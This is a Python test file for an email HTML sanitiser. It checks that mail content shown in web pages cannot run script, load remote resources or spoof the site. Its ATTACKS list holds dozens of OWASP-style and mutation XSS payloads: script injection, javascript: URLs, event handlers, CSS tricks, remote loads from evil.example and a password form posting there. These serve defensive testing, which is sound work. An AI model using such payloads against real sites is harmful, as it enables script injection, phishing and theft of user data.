"""HTML of mails in our pages: nothing runs, nothing loads, nothing pretends to be ours."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.mail.html import SafeHtml, original_html, safe_html
from tests.mail.storage import is_clean

# The OWASP XSS Filter Evasion list in its kinds, mutation XSS, and what mails were caught with.
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x src=//evil.example>",
    "<<script>alert(1);//<</script>",
    "<img src=javascript:alert(1)>",
    "<img src=`javascript:alert(1)`>",
    "<img src=x onerror=alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=# onmouseover=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<img src=\"jav\tascript:alert(1)\">",
    "<img src=\"jav&#x0A;ascript:alert(1)\">",
    "<img src=\" &#14; javascript:alert(1)\">",
    "<img dynsrc=\"javascript:alert(1)\" lowsrc=https://evil.example/>",
    "<image src=https://evil.example/x.png onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"jAvA\tscript:alert(1)\">x</a>",
    "<a href=\"java&#10;script:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"\x01javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:x\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<a href=\"cid:x\">x</a>",
    "<a href=/admin/logout>x</a>",
    "<a href=//evil.example>x</a>",
    "<a href=https://ok.example onclick=alert(1) style=x:expression(alert(1))>x</a>",
    "<body onload=alert(1)>",
    "<body background=https://evil.example/x.png>",
    "<table background=https://evil.example/x.png><td background=https://evil.example/y.png>",
    "<div style=\"background:url(https://evil.example/x.png)\">x</div>",
    "<div style=\"background-image:\\75rl(https://evil.example/x.png)\">x</div>",
    "<div style=\"background:u/**/rl(https://evil.example/x.png)\">x</div>",
    "<div style=\"background:image-set('https://evil.example/x.png' 1x)\">x</div>",
    "<div style=\"width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x)\">x</div>",
    "<div style=\"position:fixed;top:0;left:0;z-index:9\">x</div>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<style>@import 'https://evil.example/x.css';p{color:red}</style>",
    "<style>body{background:url('https://evil.example/x.png')}</style>",
    "<style>@font-face{font-family:x;src:url(https://evil.example/x.woff)}</style>",
    "<style>p{color:red}</style><style>a{background:\\75\\72\\6c(https://evil.example)}</style>",
    "<style></style><script>alert(1)</script>",
    "<style>p{font-family:'</style><script>alert(1)</script>'}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=password><button>OK</button></form>",
    "<input type=image src=https://evil.example/x.png formaction=javascript:alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=https://evil.example/x.swf></object><embed src=https://evil.example/x.swf>",
    "<applet code=x></applet>",
    "<video src=https://evil.example/x poster=https://evil.example/y><source src=x></video>",
    "<audio src=https://evil.example/x autoplay></audio>",
    "<picture><source srcset=https://evil.example><img srcset='//evil.example 2x'></picture>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><image href=//evil.example/x.png /><feImage xlink:href=//evil.example/y /></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title=\"--&gt;<img src=1 onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style>"
    "<img onerror=alert(1) src>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<template><img src=https://evil.example/x.png></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<img alt='\"><script>alert(1)</script>' src=https://evil.example/x.png>",
    "<img alt='\" onerror=alert(1) x=\"' src=cid:own>",
    "<a title='<img src=https://evil.example/x.png>' href=https://ok.example>x</a>",
    "<h1 title='\"><img src=x onerror=alert(1)>'>x</h1>",
    "<dialog open>x</dialog><marquee onstart=alert(1)>x</marquee><details ontoggle=alert(1) open>",
    "<isindex action=javascript:alert(1)><keygen autofocus onfocus=alert(1)>",
    "<x onclick=alert(1)>x</x><p id=login name=login class=x>x</p>",
    "\0<script>alert(1)</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]  # fmt: skip

_TAG = re.compile(r"<(/?)([a-z0-9]+)((?: [a-z]+=\"[^\"<>]*\")*)>")
_ATTRIBUTE = re.compile(r" ([a-z]+)=\"([^\"<>]*)\"")
_MAY_NOT_BE = {
    *("script", "style", "link", "meta", "base", "form", "input", "button", "iframe", "frame"),
    *("object", "embed", "applet", "video", "audio", "source", "picture", "svg", "math", "image"),
    *("template", "noscript", "textarea", "body", "html", "head", "title", "select"),
}


def tags_of(html: str) -> list[tuple[str, dict[str, str]]]:
    """Return tags and attributes, having checked that nothing else in it begins with ``<``."""
    assert "<" not in _TAG.sub("", html)
    return [(tag[2], dict(_ATTRIBUTE.findall(tag[3]))) for tag in _TAG.finditer(html)]


def own(content_id: str) -> str | None:
    return "/own.png" if content_id == "own" else None


def data(content_id: str) -> str | None:
    return "data:image/png;base64,AA==" if content_id == "own" else None


def cleaned(html: str) -> SafeHtml:
    found = safe_html(html, own)
    assert found is not None
    return found


@pytest.mark.parametrize("attack", ATTACKS)
def test_in_a_page_nothing_runs_and_nothing_loads(attack: str) -> None:
    for tag, attributes in tags_of(cleaned(f"<p>vor</p>{attack}<p>nach</p>").html):
        assert tag not in _MAY_NOT_BE
        assert set(attributes) <= {
            *("href", "rel", "target", "src", "alt", "width", "height", "title", "dir", "lang"),
            *("colspan", "rowspan", "scope", "start"),
        }
        assert attributes.get("src", "/own.png") == "/own.png"
        assert attributes.get("href", "https://").startswith(("https://", "http://", "mailto:"))


@pytest.mark.parametrize("attack", ATTACKS)
def test_with_its_formatting_nothing_runs_and_nothing_loads_either(attack: str) -> None:
    html = original_html(f"<p>vor</p>{attack}<p>nach</p>", data)
    assert html is not None
    sheet = ""
    if html.startswith("<style>\n"):
        sheet, html = html.removeprefix("<style>\n").split("\n</style>\n", 1)
    styles = [sheet]
    for tag, attributes in tags_of(html):
        assert tag not in _MAY_NOT_BE
        assert not [name for name in attributes if name.startswith("on")]
        assert set(attributes).isdisjoint({"srcset", "background", "poster", "id", "name"})
        assert attributes.get("src", "data:image/").startswith("data:image/")
        assert attributes.get("href", "https://").startswith(("https://", "http://", "mailto:"))
        styles.append(attributes.get("style", ""))
    for style in styles:
        assert not re.search(
            r"url|@|\\|:\s*/|expression|position|behavior|image-set|<", style, re.I
        )


@pytest.mark.parametrize("attack", ATTACKS)
def test_cleaning_again_changes_nothing(attack: str) -> None:
    """What a browser would read differently than the sanitiser shows as a change (mutation)."""

    def without_host(html: str) -> str:
        return re.sub(r" <small>.*?</small>", "", html)

    once = without_host(cleaned(attack).html)
    again = without_host(cleaned(once.replace("/own.png", "cid:own")).html)
    assert tags_of(again) == tags_of(once)  # nh3 does not keep the order of attributes
    assert _TAG.sub("|", again) == _TAG.sub("|", once)


@pytest.mark.parametrize(
    ("html", "safe", "blocked"),
    [
        ("<p>Grüße &amp; mehr</p>", "<p>Grüße &amp; mehr</p>", 0),
        ("<p style='color:red' class=x id=y>a</p>", "<p>a</p>", 0),
        ("<h1>a</h1>", "<div><b>a</b></div>", 0),
        ("<img src=cid:own alt=Logo>", '<img src="/own.png" alt="Logo">', 0),
        ("<img src=CID:own>", '<img src="/own.png">', 0),
        ("<img src=cid:%6fwn>", '<img src="/own.png">', 0),
        ("<img src=cid:other alt=Logo>", "<span>Logo</span>", 0),
        ("<img src=/own.png alt=Logo>", "<span>Logo</span>", 0),
        ("<img src=data:image/png;base64,AA== alt=Logo>", "<span>Logo</span>", 0),
        ("<img src=https://x.example/a.png>", "<span>[image]</span>", 1),
        ("<img src=//x.example/a.png>", "<span>[image]</span>", 1),
        ("<img src=' HTTP://x.example/a.png'>", "<span>[image]</span>", 1),
        ("<img src=https://x.example/a.png alt='&lt;b&gt; &quot;'>",
         '<span>&lt;b&gt; "</span>', 1),
        ("<img src=https://x.example/a.gif width=1 height=1>", "", 1),
        ("<img src=https://x.example/a width=600><img src=https://x.example/b>",
         "<span>[image]</span><span>[image]</span>", 2),
        ("<img alt=Logo>", "<span>Logo</span>", 0),
        ("<noscript><b>x</b></noscript>a", "a", 0),
        ("<p title='<img src=x>'>a</p>", '<p title="&lt;img src=x&gt;">a</p>', 0),
    ],
)  # fmt: skip
def test_what_stays(html: str, safe: str, blocked: int) -> None:
    assert cleaned(html) == SafeHtml(safe, blocked)


@pytest.mark.parametrize(
    ("link", "host"),
    [
        ('<a href="https://Evil.example/x">hier</a>', "evil.example"),
        ('<a href="https://evil.example/x">https://bank.example</a>', "evil.example"),
        ('<a href="https://user@evil.example:8/x">bank.example</a>', "evil.example"),
        ('<a href="https://evil.example"><b>ev</b>il.<i>example</i></a>', None),
        ('<a href="https://evil.example">Siehe evil.example</a>', None),
        ('<a href="mailto:a@evil.example">Anna</a>', "a@evil.example"),
        ('<a href="mailto:a@evil.example">a@evil.example</a>', None),
        ('<a href="https://evil.example"><img src=cid:own></a>', "evil.example"),
        ("<a>ohne Ziel</a>", None),
        ('<a href="https://[">x</a>', None),
    ],
)
def test_a_link_shows_the_host_it_leads_to(link: str, host: str | None) -> None:
    html = cleaned(link).html
    assert re.findall(r"<small>\((.*?)\)</small>", html) == ([host] if host else [])
    assert 'rel="noopener noreferrer nofollow"' in html


def test_with_its_formatting() -> None:
    html = (
        "<style>p.x { color: red; background: url(https://x.example) } @media print { p { } }"
        "</style><h1 align=center>a</h1><p class=x style='font-size: 9pt; position: fixed'>b"
        "<font color=red>c</font><img src=cid:own width=9><img src=https://x.example/a.png>"
        "<img src='data:image/gif;base64,R0lG'><img src='data:image/svg+xml;base64,AA'></p>"
    )
    assert original_html(html, data) == (
        "<style>\np.x { color: red }\n</style>\n"
        '<h1 align="center">a</h1><p class="x" style="font-size: 9pt">b'
        '<font color="red">c</font><img src="data:image/png;base64,AA==" width="9"><img>'
        '<img src="data:image/gif;base64,R0lG"><img></p>'
    )


def test_remote_images_are_shown_only_when_they_are_asked_for() -> None:
    html = (
        "<img src=https://x.example/a.png><img srcset='https://x.example/b.png 2x'>"
        "<p style='background: url(https://x.example/c.png)'></p><img src=//x.example/d.png>"
    )
    assert original_html(html, data) == "<img><img><p></p><img>"
    shown = original_html(html, data, remote_images=True)
    assert shown == '<img src="https://x.example/a.png"><img><p></p><img>'


def test_control_characters_written_as_references_are_taken_out() -> None:
    assert is_clean(cleaned("<p title='&#129;'>a&#129;&#13;&#27;b</p>").html)


@given(st.text(alphabet="<>/!-\"'= apimgstyleurhfcd:own&#;(){}\n\0", max_size=120))
def test_any_document_is_cleaned(html: str) -> None:
    for tag, attributes in tags_of(cleaned(html).html):
        assert tag not in _MAY_NOT_BE
        assert not [name for name in attributes if name.startswith("on")]
    original_html(html, data)
